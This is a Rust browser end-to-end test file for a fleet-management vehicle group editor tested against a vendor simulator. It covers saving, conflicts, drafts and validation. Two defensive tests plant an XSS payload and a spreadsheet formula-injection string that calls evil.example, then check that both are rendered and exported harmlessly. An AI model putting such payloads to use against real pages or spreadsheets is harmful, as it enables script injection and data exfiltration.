//! The group editor against the simulator: create, membership, refusals,
//! drafts, exactly-once saves, outcome unknown, and vendor text as text.

use fleet_e2e::{ensure, Browser, Env, TestResult};
use serde_json::{json, Value};

use fleet_e2e::fixtures::{capture_downloads, first_download, pinned_ids, shipped_config, sim_group, VEHIZEN_AUTH};

const GROUPS: &str = "/vehizen/api/v2/CustomerGroup";

fn plates(group: &Value) -> Vec<String> {
    let mut p: Vec<String> = group["Vehicles"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|v| v["LicencePlate"].as_str().map(str::to_string))
        .collect();
    p.sort();
    p
}

/// The vehicle object the simulator stores (the last one written).
fn stored_vehicle(env: &Env, id: &str) -> Result<Value, String> {
    env.sim_json(&format!("/__sim/vehizen/vehicles/{id}"), &[])
}

/// Clicks "Remove" on the table row showing `plate`.
async fn remove_row(b: &Browser, plate: &str) -> TestResult {
    let script = "for (const tr of document.querySelectorAll('[data-test=group-vehicles] tbody tr')) {
        const cell = tr.querySelector('td.plate');
        if (cell && cell.textContent.trim() === arguments[0]) { tr.querySelector('[data-test=remove-vehicle]').click(); return true; }
    } return false;";
    let clicked = b.client.execute(script, vec![json!(plate)]).await.map_err(|e| e.to_string())?;
    ensure(clicked == json!(true), format!("no row shows {plate}"))
}

fn puts(env: &Env) -> Result<Vec<Value>, String> {
    Ok(env.requests(GROUPS)?.into_iter().filter(|r| r["method"] == "PUT").collect())
}

fn unique(prefix: &str) -> String {
    format!(
        "{prefix} {}",
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_micros() % 1_000_000)
            .unwrap_or(0)
    )
}

pub async fn create_group_is_held_by_the_simulator_and_shown_at_its_url(b: &Browser, env: &Env) -> TestResult {
    b.goto("/groups/new").await?;
    b.wait_for("[data-test=group-form]").await?;
    let default_customer =
        shipped_config()?["vendors"]["vehizen"]["defaultCustomerId"].as_str().unwrap_or_default().to_string();
    ensure(b.value("#group-customer").await? == default_customer, "customer id not prefilled from the configuration")?;
    b.screenshot("group-new").await?;
    let name = unique("Tournées Nantes");
    b.fill("#group-name-input", &name).await?;
    b.click("[data-test=save]").await?;
    let path = b.wait_path("after create", |p| p.starts_with("/groups/") && p != "/groups/new").await?;
    let id = path.trim_start_matches("/groups/").to_string();
    let held = sim_group(env, &id)?;
    ensure(held["Name"] == name.as_str(), format!("simulator holds {held}"))?;
    ensure(b.wait_text("[data-test=group-name]", &name, 10).await?.trim() == name, "page does not show the group")?;
    b.wait_text("[data-test=toasts]", "saved", 10).await?;
    // Created in this browser: now among the recent groups.
    b.goto("/groups").await?;
    ensure(b.text("[data-test=recent-groups]").await?.contains(&name), "not in recent groups")
}

pub async fn move_vehicles_between_groups_and_save_exact_membership(b: &Browser, env: &Env) -> TestResult {
    let ids = pinned_ids()?;
    let (target, source) = (ids[2].clone(), ids[3].clone());
    let target_group = sim_group(env, &target)?;
    let source_group = sim_group(env, &source)?;
    let before = plates(&target_group);
    let source_before = plates(&source_group);
    b.goto(&format!("/groups/{target}")).await?;
    b.wait_count("[data-test=group-vehicles] tbody tr", before.len()).await?;
    // Rows are sorted by plate: the first remove button removes the first plate.
    let removed = before[0].clone();
    b.click("[data-test=remove-vehicle]").await?;
    b.wait_count("[data-test=group-vehicles] tbody tr", before.len() - 1).await?;
    let picker = b.wait_for("[data-test=source-group]").await?;
    picker.select_by_value(&source).await.map_err(|e| e.to_string())?;
    let first = b.wait_for("[data-test=candidates] li").await?;
    let added = first.text().await.map_err(|e| e.to_string())?.split(" — ").next().unwrap_or_default().to_string();
    b.click("[data-test=candidates] li button").await?;
    b.wait_count("[data-test=group-vehicles] tbody tr", before.len()).await?;
    b.screenshot("group-edited").await?;
    b.click("[data-test=save]").await?;
    b.wait_text("[data-test=toasts]", "saved", 15).await?;
    let mut expected: Vec<String> = before.iter().filter(|p| **p != removed).cloned().chain([added.clone()]).collect();
    expected.sort();
    ensure(plates(&sim_group(env, &target)?) == expected, format!("membership differs; expected {expected:?}"))?;
    // Moving: the vehicle left its old group, and only its group fields changed.
    ensure(
        !plates(&sim_group(env, &source)?).contains(&added) && source_before.contains(&added),
        "vehicle not moved out of its group",
    )?;
    let as_read = source_group["Vehicles"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|v| v["LicencePlate"] == added.as_str())
        .cloned()
        .ok_or("moved vehicle not in its former group")?;
    let mut expected_record = as_read.clone();
    if let Some(o) = expected_record.as_object_mut() {
        for (key, value) in [("CustomerGroupId", json!(target)), ("CustomerGroupName", target_group["Name"].clone())] {
            if let Some(field) = o.get_mut(key) {
                *field = value;
            }
        }
    }
    let stored = stored_vehicle(env, as_read["VehicleId"].as_str().unwrap_or_default())?;
    ensure(stored == expected_record, format!("moved vehicle written as {stored}, read as {as_read}"))?;
    ensure(env.requests(GROUPS)?.iter().filter(|r| r["method"] == "PUT").count() == 1, "expected exactly one PUT")
}

pub async fn refusals_show_errors_and_keep_the_input(b: &Browser, env: &Env) -> TestResult {
    let existing = sim_group(env, &pinned_ids()?[5])?["Name"].as_str().unwrap_or_default().to_string();
    b.goto("/groups/new").await?;
    b.wait_for("[data-test=group-form]").await?;
    // Empty name and a bad customer id: caught here, nothing sent.
    b.fill("#group-name-input", "   ").await?;
    b.fill("#group-customer", "not-a-guid").await?;
    b.click("[data-test=save]").await?;
    ensure(b.text("[data-test=error-name]").await?.contains("Enter a name"), "no inline name error")?;
    ensure(b.text("[data-test=error-customer]").await?.contains("GUID"), "no inline customer error")?;
    let writes = |env: &Env| -> Result<Vec<Value>, String> {
        Ok(env.requests(GROUPS)?.into_iter().filter(|r| r["method"] != "GET").collect())
    };
    ensure(writes(env)?.is_empty(), format!("an invalid form was sent: {:?}", writes(env)?))?;
    ensure(b.value("#group-customer").await? == "not-a-guid", "input lost")?;
    // A duplicate name: the simulator's own error, next to the name.
    let customer =
        shipped_config()?["vendors"]["vehizen"]["defaultCustomerId"].as_str().unwrap_or_default().to_string();
    b.fill("#group-customer", &customer).await?;
    b.fill("#group-name-input", &existing.to_uppercase()).await?;
    b.click("[data-test=save]").await?;
    let error = b.wait_text("[data-test=error-name]", "existe déjà", 15).await?;
    ensure(error.starts_with("Name"), format!("not the simulator's message: {error}"))?;
    ensure(b.value("#group-name-input").await? == existing.to_uppercase(), "name input lost")?;
    ensure(writes(env)?.len() == 1, "expected one refused POST")?;
    b.screenshot("group-validation").await
}

pub async fn reload_mid_edit_offers_and_restores_the_draft(b: &Browser, env: &Env) -> TestResult {
    let id = pinned_ids()?[5].clone();
    let original = sim_group(env, &id)?["Name"].as_str().unwrap_or_default().to_string();
    b.goto(&format!("/groups/{id}")).await?;
    b.wait_for("#group-name-input").await?;
    b.fill("#group-name-input", "Direction — brouillon").await?;
    b.wait_text(".form-actions", "Unsaved changes", 5).await?;
    tokio::time::sleep(std::time::Duration::from_millis(900)).await; // autosave delay
    b.client.refresh().await.map_err(|e| e.to_string())?;
    b.wait_for("[data-test=draft-offer]").await?;
    ensure(b.value("#group-name-input").await? == original, "the server's group should show until restored")?;
    b.click("[data-test=restore-draft]").await?;
    ensure(b.value("#group-name-input").await? == "Direction — brouillon", "draft not restored")?;
    ensure(sim_group(env, &id)?["Name"] == original.as_str(), "a draft must not be saved by itself")
}

pub async fn double_click_on_save_sends_exactly_one_post(b: &Browser, env: &Env) -> TestResult {
    b.goto("/groups/new").await?;
    b.fill("#group-name-input", &unique("Double clic")).await?;
    b.client
        .execute("const s = document.querySelector('[data-test=save]'); s.click(); s.click(); s.click();", vec![])
        .await
        .map_err(|e| e.to_string())?;
    b.wait_path("after create", |p| p != "/groups/new").await?;
    let posts = env.requests(GROUPS)?.iter().filter(|r| r["method"] == "POST").count();
    ensure(posts == 1, format!("{posts} POSTs reached the simulator"))
}

pub async fn reset_after_put_applied_says_outcome_unknown_and_rereads(b: &Browser, env: &Env) -> TestResult {
    let id = pinned_ids()?[4].clone();
    b.goto(&format!("/groups/{id}")).await?;
    b.wait_for("#group-name-input").await?;
    let name = unique("Commerciaux Ouest");
    b.fill("#group-name-input", &name).await?;
    env.fault(json!({ "path": GROUPS, "method": "PUT", "times": 1, "action": { "kind": "reset_after" } }))?;
    b.click("[data-test=save]").await?;
    let message = match b.wait_text("[data-test=outcome-unknown]", "outcome", 20).await {
        Ok(m) => m,
        Err(e) => return Err(format!("{e}; status area: {:?}", b.text("[data-test=save-status]").await)),
    };
    ensure(message.contains("read back") && message.contains("were saved"), format!("message: {message}"))?;
    let puts = env.requests(GROUPS)?.iter().filter(|r| r["method"] == "PUT").count();
    ensure(puts == 1, format!("{puts} PUTs reached the simulator"))?;
    ensure(sim_group(env, &id)?["Name"] == name.as_str(), "the simulator did not apply the PUT")?;
    // The form shows the re-read group, no longer dirty.
    ensure(b.text("[data-test=group-name]").await? == name, "heading not updated from the re-read")?;
    ensure(!b.text(".form-actions").await?.contains("Unsaved changes"), "still marked unsaved")?;
    b.screenshot("group-outcome-unknown").await
}

pub async fn vendor_strings_render_as_text(b: &Browser, env: &Env) -> TestResult {
    let id = "0f1e2d3c-4b5a-4978-8877-665544332211";
    let evil = "<img src=x onerror=window.__xss=1>";
    let group = json!({
        "Id": id, "CustomerId": "b739ee96-7573-54a8-b805-341888a830e9", "Name": format!("Groupe {evil}"), "ProfilEcoDriveId": null,
        "Vehicles": [{ "VehicleId": "11111111-2222-4333-8444-555555555555", "LicencePlate": "XS-001-SS", "Name": evil, "Brand": evil, "Model": "x", "VIN": "VF1XSS00000000001", "MalfunctionLevel": 42 }]
    });
    env.fault(json!({ "path": format!("{GROUPS}/{id}"), "method": "GET", "times": 3, "action": { "kind": "status", "status": 200, "body": group.to_string() } }))?;
    b.goto(&format!("/groups/{id}")).await?;
    b.wait_for("[data-test=group-vehicles] tbody tr").await?;
    let table = b.text("[data-test=group-vehicles]").await?;
    ensure(table.contains(evil), "vendor text not shown literally")?;
    ensure(table.contains("Unknown (42)"), "unknown enum value not shown as such")?;
    ensure(b.count("main img").await? == 0, "vendor text became an element")?;
    let xss = b.client.execute("return typeof window.__xss;", vec![]).await.map_err(|e| e.to_string())?;
    ensure(xss == json!("undefined"), format!("window.__xss is {xss}"))?;
    let _ = VEHIZEN_AUTH;
    Ok(())
}

/// A vendor string a spreadsheet would run (`=HYPERLINK(...)`) leaves the
/// CSV export as text: the exported file's bytes, taken from the Blob the
/// page hands to the download.
pub async fn exported_csv_neutralises_formulas(b: &Browser, env: &Env) -> TestResult {
    let id = "0f1e2d3c-4b5a-4978-8877-665544332212";
    let formula = "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Open\")";
    let group = json!({
        "Id": id, "CustomerId": "b739ee96-7573-54a8-b805-341888a830e9", "Name": "Export test", "ProfilEcoDriveId": null,
        "Vehicles": [{ "VehicleId": "11111111-2222-4333-8444-555555555556", "LicencePlate": "@SUM(1)", "Name": formula, "Brand": "-2+3", "Model": "x", "VIN": "VF1XSS00000000002" }]
    });
    env.fault(json!({ "path": format!("{GROUPS}/{id}"), "method": "GET", "times": 3, "action": { "kind": "status", "status": 200, "body": group.to_string() } }))?;
    b.goto(&format!("/groups/{id}")).await?;
    b.wait_for("[data-test=group-vehicles] tbody tr").await?;
    capture_downloads(b).await?;
    b.click("[data-test=export-csv]").await?;
    let csv = first_download(b).await?;
    ensure(!csv.is_empty(), "no CSV was exported")?;
    let row = csv.lines().nth(1).ok_or(format!("no data row in {csv:?}"))?;
    ensure(
        row.starts_with("'@SUM(1),\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A2,\"\"Open\"\")\","),
        format!("formulas not neutralised: {row}"),
    )?;
    ensure(row.contains(",'-2+3 x,VF1XSS00000000002,"), format!("brand cell not neutralised: {row}"))
}

pub async fn removing_a_vehicle_writes_every_other_one_back_as_read(b: &Browser, env: &Env) -> TestResult {
    let id = pinned_ids()?[1].clone();
    let read = sim_group(env, &id)?;
    let vehicles = read["Vehicles"].as_array().cloned().unwrap_or_default();
    let documented = |v: &Value| v.as_object().map_or(0, |o| o.len());
    // Remove a vehicle with the documented fields; keep the odd ones.
    let ordinary = vehicles.iter().find(|v| documented(v) == 48).ok_or("no ordinary vehicle in the group")?;
    let removed = ordinary["LicencePlate"].as_str().unwrap_or_default().to_string();
    let kept: Vec<&Value> = vehicles.iter().filter(|v| v["LicencePlate"] != removed.as_str()).collect();
    let partial = kept.iter().filter(|v| documented(v) <= 3).count();
    let undocumented = kept.iter().filter(|v| v.get("Co2Class").is_some()).count();
    ensure(
        partial > 0 && undocumented > 0,
        format!("group lacks odd vehicles: {partial} partial, {undocumented} undocumented"),
    )?;
    b.goto(&format!("/groups/{id}")).await?;
    b.wait_count("[data-test=group-vehicles] tbody tr", vehicles.len()).await?;
    remove_row(b, &removed).await?;
    b.click("[data-test=save]").await?;
    b.wait_text("[data-test=toasts]", "saved", 15).await?;
    ensure(puts(env)?.len() == 1, "expected exactly one PUT")?;
    ensure(!plates(&sim_group(env, &id)?).contains(&removed), "vehicle not removed")?;
    for v in kept {
        let stored = stored_vehicle(env, v["VehicleId"].as_str().unwrap_or_default())?;
        ensure(&stored == v, format!("vehicle written back changed:\nread   {v}\nstored {stored}"))?;
    }
    Ok(())
}

/// The id of a seeded group no other test edits, found by name (created
/// groups change the simulator's listing order).
fn untouched_group(env: &Env) -> Result<String, String> {
    let list = env.sim_json("/__sim/groups", &[])?;
    let found = list.as_array().into_iter().flatten().find(|g| g["name"] == "Ambulances Rhône");
    found.and_then(|g| g["id"].as_str()).map(str::to_string).ok_or_else(|| format!("no “Ambulances Rhône” in {list}"))
}

pub async fn two_editors_of_one_group_see_each_others_changes(b: &Browser, env: &Env) -> TestResult {
    let other = env.browser().await?;
    let outcome = two_editors(b, &other, env).await;
    let closed = other.finish().await;
    outcome.and(closed)
}

async fn two_editors(b: &Browser, other: &Browser, env: &Env) -> TestResult {
    let id = untouched_group(env)?;
    let page = format!("/groups/{id}");
    let before = plates(&sim_group(env, &id)?);
    ensure(before.len() >= 4, format!("the group should hold a few vehicles: {before:?}"))?;
    for browser in [b, other] {
        browser.goto(&page).await?;
        browser.wait_count("[data-test=group-vehicles] tbody tr", before.len()).await?;
    }
    // The other editor removes one vehicle and saves first.
    remove_row(other, &before[0]).await?;
    other.click("[data-test=save]").await?;
    other.wait_text("[data-test=toasts]", "saved", 15).await?;
    // This editor, still on the group as first read, removes another.
    remove_row(b, &before[1]).await?;
    b.click("[data-test=save]").await?;
    let told = b.wait_text("[data-test=conflict]", "They removed", 15).await?;
    ensure(told.contains(&before[0]), format!("the other's change is not named: {told}"))?;
    ensure(puts(env)?.len() == 1, "this editor's save must wait for a choice")?;
    b.screenshot("group-conflict").await?;
    b.click("[data-test=apply-on-top]").await?;
    b.wait_text("[data-test=toasts]", "saved", 15).await?;
    let both: Vec<String> = before[2..].to_vec();
    ensure(plates(&sim_group(env, &id)?) == both, "apply on top: both removals should be stored")?;

    // Again: the other editor renames it; this editor removes one more,
    // then takes their version instead.
    other.goto(&page).await?;
    other.wait_count("[data-test=group-vehicles] tbody tr", both.len()).await?;
    let renamed = unique("Ambulances Rhône-Alpes");
    other.fill("#group-name-input", &renamed).await?;
    other.click("[data-test=save]").await?;
    other.wait_text("[data-test=toasts]", "saved", 15).await?;
    remove_row(b, &both[0]).await?;
    b.click("[data-test=save]").await?;
    let told = b.wait_text("[data-test=conflict]", "renamed", 15).await?;
    ensure(told.contains(&renamed), format!("the rename is not named: {told}"))?;
    let writes = puts(env)?.len();
    b.click("[data-test=reload-theirs]").await?;
    b.wait_for("[data-test=draft-offer]").await?;
    ensure(b.value("#group-name-input").await? == renamed, "their name is not shown")?;
    b.wait_count("[data-test=group-vehicles] tbody tr", both.len()).await?;
    ensure(puts(env)?.len() == writes, "reload theirs must not write")?;
    let held = sim_group(env, &id)?;
    ensure(held["Name"] == renamed.as_str() && plates(&held) == both, format!("stored state is not theirs: {held}"))
}

/// This file's browser tests, in the order they run.
pub fn tests() -> Vec<(&'static str, fleet_e2e::BrowserTest)> {
    fleet_e2e::browser_tests![
        create_group_is_held_by_the_simulator_and_shown_at_its_url,
        move_vehicles_between_groups_and_save_exact_membership,
        removing_a_vehicle_writes_every_other_one_back_as_read,
        two_editors_of_one_group_see_each_others_changes,
        refusals_show_errors_and_keep_the_input,
        reload_mid_edit_offers_and_restores_the_draft,
        double_click_on_save_sends_exactly_one_post,
        reset_after_put_applied_says_outcome_unknown_and_rereads,
        vendor_strings_render_as_text,
        exported_csv_neutralises_formulas,
    ]
}
